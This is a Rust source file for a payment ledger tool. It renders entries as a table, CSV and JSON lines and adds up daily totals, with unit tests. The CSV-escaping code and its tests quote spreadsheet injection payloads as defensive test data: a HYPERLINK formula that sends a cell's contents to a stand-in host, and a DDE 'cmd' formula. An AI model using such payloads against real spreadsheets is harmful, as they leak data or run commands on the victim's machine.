//! How `paysay ledger` shows entries: a table for people, CSV for spreadsheets, and JSON
//! lines for programs.
//!
//! The JSON-lines format is a contract other tools rely on: one object per line, with at
//! least `msg_id` (string), `amount_fen` (integer), `kind` (one of
//! [`PaymentKind::as_str`](crate::payment::PaymentKind::as_str)), `payer` (string or null)
//! and `time` (RFC 3339, local offset); and `deliveries`, each sink's state by name
//! (`{"shop": "delivered"}`). Fields are only ever added, never renamed.
//!
//! Times are shown in local time; the caller supplies the offset, because `time` cannot
//! always read the local offset (it refuses in multi-threaded processes on Unix).

use std::collections::BTreeMap;

use serde::Serialize;
use time::{Date, OffsetDateTime, Time, UtcOffset};

use super::Entry;
use crate::money::Yuan;
use crate::payment::{Payment, PaymentKind, Wallet};
use crate::rfc3339;

/// The local offset at an instant, `None` where the platform cannot tell.
pub fn local_offset_at(unix: i64) -> Option<UtcOffset> {
    let at = OffsetDateTime::from_unix_timestamp(unix).ok()?;
    UtcOffset::local_offset_at(at).ok()
}

/// Unix seconds at the local midnight that starts `date`.
pub fn start_of_day(date: Date, offset_at: &dyn Fn(i64) -> UtcOffset) -> i64 {
    let midnight = date.with_time(Time::MIDNIGHT);
    // The offset at that midnight, guessed from the UTC reading: right except within a
    // DST change, which happens at 02:00 or later, never at midnight in China.
    let guess = midnight.assume_utc().unix_timestamp();
    midnight.assume_offset(offset_at(guess)).unix_timestamp()
}

/// Today's date at the local offset `offset_at` gives for now.
pub fn today(offset_at: &dyn Fn(i64) -> UtcOffset) -> Date {
    let now = OffsetDateTime::now_utc();
    now.to_offset(offset_at(now.unix_timestamp())).date()
}

/// `since..=until` in local days → `from..to` unix seconds for [`super::Ledger::entries`].
pub fn day_range(since: Date, until: Date, offset_at: &dyn Fn(i64) -> UtcOffset) -> (i64, i64) {
    let from = start_of_day(since, offset_at);
    let to = match until.next_day() {
        Some(next) => start_of_day(next, offset_at),
        None => i64::MAX,
    };
    (from, to)
}

/// One line of `paysay ledger --json`.
#[derive(Debug, Serialize)]
struct JsonEntry<'a> {
    msg_id: &'a str,
    amount_fen: u64,
    /// The same amount as `"12.50"`, for people reading the stream.
    amount_yuan: String,
    kind: &'static str,
    payer: Option<&'a str>,
    time: String,
    /// `wechat`, `alipay` or `unionpay`.
    wallet: &'static str,
    /// `web`, `phone` or `both`: which way paysay heard of it.
    source: &'static str,
    remark: Option<&'a str>,
    account: &'a str,
    transfer_id: Option<&'a str>,
    daily_count: Option<u32>,
    daily_total_fen: Option<u64>,
    detected_at: String,
    announced_at: Option<String>,
    /// Each sink's state by name: `{"shop": "delivered", "vmq": "pending"}`.
    deliveries: BTreeMap<&'a str, &'static str>,
}

/// One JSON object, no newline.
pub fn json_line(entry: &Entry, offset_at: &dyn Fn(i64) -> UtcOffset) -> String {
    let p = &entry.payment;
    let at = |t: i64| rfc3339(t, offset_at(t));
    let line = JsonEntry {
        msg_id: &p.msg_id,
        amount_fen: p.amount_fen,
        amount_yuan: Yuan(p.amount_fen).to_string(),
        kind: p.kind.as_str(),
        payer: p.payer.as_deref(),
        time: at(p.time),
        wallet: p.wallet.as_str(),
        source: p.source.as_str(),
        remark: p.remark.as_deref(),
        account: &p.account,
        transfer_id: p.transfer_id.as_deref(),
        daily_count: p.daily_count,
        daily_total_fen: p.daily_total_fen,
        detected_at: at(entry.detected_at),
        announced_at: entry.announced_at.map(at),
        deliveries: entry
            .deliveries
            .iter()
            .map(|(sink, state)| (sink.as_str(), state.as_str()))
            .collect(),
    };
    // Serializing plain strings and numbers cannot fail; an empty object would still be
    // one line, keeping the stream readable.
    serde_json::to_string(&line).unwrap_or_else(|_| "{}".to_string())
}

/// The CSV header matching [`csv_row`].
pub const CSV_HEADER: &str = "time,amount_yuan,amount_fen,kind,payer,remark,account,msg_id,transfer_id,announced_at,wallet,source";

/// One CSV row (RFC 4180 quoting), no newline. Every cell is [`csv_cell`]'s: names and
/// remarks come from the network and the owner opens the file in Excel or WPS.
pub fn csv_row(entry: &Entry, offset_at: &dyn Fn(i64) -> UtcOffset) -> String {
    let p = &entry.payment;
    let at = |t: i64| rfc3339(t, offset_at(t));
    [
        at(p.time),
        Yuan(p.amount_fen).to_string(),
        p.amount_fen.to_string(),
        p.kind.as_str().to_string(),
        p.payer.clone().unwrap_or_default(),
        p.remark.clone().unwrap_or_default(),
        p.account.clone(),
        p.msg_id.clone(),
        p.transfer_id.clone().unwrap_or_default(),
        entry.announced_at.map(at).unwrap_or_default(),
        p.wallet.as_str().to_string(),
        p.source.as_str().to_string(),
    ]
    .iter()
    .map(|field| csv_cell(field))
    .collect::<Vec<_>>()
    .join(",")
}

/// One cell: a text a spreadsheet would take for a formula (starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return: a payer who named themselves
/// `=HYPERLINK("http://…"&A1,"点我")`) gets a leading `'`, as OWASP's CSV-injection advice
/// says, so it shows as the text it is; then RFC 4180 quoting. `paysay ledger --json`
/// and the page's JSON keep the exact text.
fn csv_cell(field: &str) -> String {
    let field = if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{field}")
    } else {
        field.to_string()
    };
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

/// One line of the table for people: time, amount, kind, payer, remark.
pub fn table_row(entry: &Entry, offset_at: &dyn Fn(i64) -> UtcOffset) -> String {
    let p = &entry.payment;
    let time = OffsetDateTime::from_unix_timestamp(p.time)
        .ok()
        .map(|t| t.to_offset(offset_at(p.time)))
        .map_or_else(
            || p.time.to_string(),
            |t| format!("{} {}", t.date(), t.time()),
        );
    let mut row = format!(
        "{time}  {:>10}  {:<8}  {:<16}  {:<5}",
        format!("￥{}", Yuan(p.amount_fen)),
        p.wallet.as_str(),
        p.kind.as_str(),
        p.source.as_str()
    );
    for extra in [&p.payer, &p.remark].into_iter().flatten() {
        row.push_str("  ");
        row.push_str(extra);
    }
    if entry.announced_at.is_none() {
        row.push_str("  (not announced)");
    }
    if !entry.deliveries.is_empty() {
        let states: Vec<String> = entry
            .deliveries
            .iter()
            .map(|(sink, state)| format!("{sink} {}", state.as_str()))
            .collect();
        row.push_str(&format!("  [{}]", states.join(", ")));
    }
    row
}

/// The sum of the entries' amounts. Saturating: the amounts come from a file, and a
/// damaged one must not panic or wrap the total shown to the owner.
pub fn total_fen(entries: &[Entry]) -> u64 {
    entries
        .iter()
        .map(|e| e.payment.amount_fen)
        .fold(0, u64::saturating_add)
}

/// How many payments, and how much they came to.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct Tally {
    pub count: u64,
    pub total_fen: u64,
}

impl Tally {
    fn add(&mut self, fen: u64) {
        self.count += 1;
        self.total_fen = self.total_fen.saturating_add(fen);
    }
}

/// A day's payments summed: in all, per kind and per wallet. The one place the day is
/// added up, so the shop's page and the owner's daily summary cannot disagree.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct DayTotals {
    pub all: Tally,
    /// The kinds that occur, in [`PaymentKind::ALL`]'s order.
    pub by_kind: Vec<(PaymentKind, Tally)>,
    /// The wallets that occur, in [`Wallet::ALL`]'s order.
    pub by_wallet: Vec<(Wallet, Tally)>,
}

impl DayTotals {
    /// Sums `payments` (saturating, as [`total_fen`]).
    pub fn of<'a>(payments: impl IntoIterator<Item = &'a Payment>) -> DayTotals {
        let mut all = Tally::default();
        let mut kinds = [Tally::default(); PaymentKind::ALL.len()];
        let mut wallets = [Tally::default(); Wallet::ALL.len()];
        for p in payments {
            all.add(p.amount_fen);
            // Both ALL lists name every variant, so the positions are always found.
            if let Some(i) = PaymentKind::ALL.iter().position(|&k| k == p.kind) {
                kinds[i].add(p.amount_fen);
            }
            if let Some(i) = Wallet::ALL.iter().position(|&w| w == p.wallet) {
                wallets[i].add(p.amount_fen);
            }
        }
        DayTotals {
            all,
            by_kind: occurring(PaymentKind::ALL, kinds),
            by_wallet: occurring(Wallet::ALL, wallets),
        }
    }
}

/// The pairs whose tally counts anything.
fn occurring<K, const N: usize>(keys: [K; N], tallies: [Tally; N]) -> Vec<(K, Tally)> {
    keys.into_iter()
        .zip(tallies)
        .filter(|(_, t)| t.count > 0)
        .collect()
}

/// `total: ￥12.50 (3 payments)`.
pub fn total_line(entries: &[Entry]) -> String {
    let total = total_fen(entries);
    let n = entries.len();
    let noun = if n == 1 { "payment" } else { "payments" };
    format!("total: ￥{} ({n} {noun})", Yuan(total))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ledger::DeliveryState;
    use time::macros::{date, offset};

    fn entry() -> Entry {
        Entry {
            payment: Payment {
                msg_id: "m1".into(),
                amount_fen: 123_450,
                kind: PaymentKind::Transfer,
                payer: Some("张三, \"老王\"".into()),
                remark: None,
                daily_count: None,
                daily_total_fen: None,
                time: 1_714_528_800, // 2024-05-01T02:00:00Z
                account: "张三".into(),
                transfer_id: Some("t1".into()),
                wallet: crate::payment::Wallet::WeChat,
                source: crate::payment::Source::Web,
            },
            detected_at: 1_714_528_801,
            announced_at: None,
            deliveries: vec![
                ("shop".into(), DeliveryState::Delivered),
                ("vmq".into(), DeliveryState::Rejected),
            ],
        }
    }

    #[test]
    fn local_days_start_at_local_midnight() {
        let east8 = |_| offset!(+8);
        let (from, to) = day_range(date!(2024 - 05 - 01), date!(2024 - 05 - 01), &east8);
        assert_eq!(from, 1_714_492_800); // 2024-04-30T16:00:00Z
        assert_eq!(to - from, 86_400);
    }

    #[test]
    fn json_line_has_the_contract_fields() {
        let line = json_line(&entry(), &|_| offset!(+8));
        let v: serde_json::Value = serde_json::from_str(&line).unwrap();
        assert_eq!(v["msg_id"], "m1");
        assert_eq!(v["amount_fen"], 123_450);
        assert_eq!(v["kind"], "transfer");
        assert_eq!(v["payer"], "张三, \"老王\"");
        assert_eq!(v["time"], "2024-05-01T10:00:00+08:00");
        assert_eq!(v["announced_at"], serde_json::Value::Null);
        assert_eq!(
            v["deliveries"],
            serde_json::json!({"shop": "delivered", "vmq": "rejected"})
        );
        assert!(!line.contains('\n'));
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_are_text() {
        for (field, cell) in [
            (
                r#"=HYPERLINK("http://x.example/?"&A1,"点我")"#,
                r#""'=HYPERLINK(""http://x.example/?""&A1,""点我"")""#,
            ),
            (
                "+SUM(1,2)*cmd|' /C calc'!A0",
                "\"'+SUM(1,2)*cmd|' /C calc'!A0\"",
            ),
            ("-2+3", "'-2+3"),
            ("@SUM(1,2)", "\"'@SUM(1,2)\""),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("张三", "张三"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(field), cell, "{field:?}");
        }
    }

    #[test]
    fn csv_quotes_fields_with_commas_and_quotes() {
        let row = csv_row(&entry(), &|_| UtcOffset::UTC);
        assert_eq!(
            row,
            "2024-05-01T02:00:00Z,1234.50,123450,transfer,\"张三, \"\"老王\"\"\",,张三,m1,t1,,wechat,web"
        );
        assert_eq!(CSV_HEADER.split(',').count(), row.split(',').count() - 1);
    }

    #[test]
    fn amounts_show_as_yuan_with_two_decimals() {
        assert_eq!(Yuan(1).to_string(), "0.01");
        assert_eq!(Yuan(123_450).to_string(), "1234.50");
    }

    #[test]
    fn total_sums_fen() {
        let mut e2 = entry();
        e2.payment.amount_fen = 50;
        assert_eq!(total_line(&[entry(), e2]), "total: ￥1235.00 (2 payments)");
        assert_eq!(total_line(&[]), "total: ￥0.00 (0 payments)");
        let mut huge = entry();
        huge.payment.amount_fen = u64::MAX;
        assert_eq!(total_fen(&[huge, entry()]), u64::MAX);
    }

    #[test]
    fn day_totals_count_each_kind_and_wallet_in_the_listed_order() {
        let mut alipay = entry();
        alipay.payment.kind = PaymentKind::Collection;
        alipay.payment.wallet = crate::payment::Wallet::Alipay;
        alipay.payment.amount_fen = 50;
        let entries = [entry(), alipay, entry()];
        let totals = DayTotals::of(entries.iter().map(|e| &e.payment));
        let tally = |count, total_fen| Tally { count, total_fen };
        assert_eq!(totals.all, tally(3, 246_950));
        assert_eq!(
            totals.by_kind,
            [
                (PaymentKind::Collection, tally(1, 50)),
                (PaymentKind::Transfer, tally(2, 246_900)),
            ]
        );
        assert_eq!(
            totals.by_wallet,
            [
                (Wallet::WeChat, tally(2, 246_900)),
                (Wallet::Alipay, tally(1, 50)),
            ]
        );
        assert_eq!(DayTotals::of([]), DayTotals::default());
    }
}
